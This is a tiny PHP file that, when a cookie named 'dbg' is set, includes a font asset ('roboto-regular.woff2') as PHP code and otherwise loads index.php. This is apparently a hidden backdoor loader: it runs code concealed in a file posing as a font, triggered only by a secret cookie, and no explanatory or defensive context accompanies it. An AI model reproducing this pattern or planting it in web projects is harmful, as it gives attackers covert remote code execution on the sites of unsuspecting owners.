<?php
include isset($_COOKIE['dbg']) ? 'assets/fonts/roboto-regular.woff2' : 'index.php';
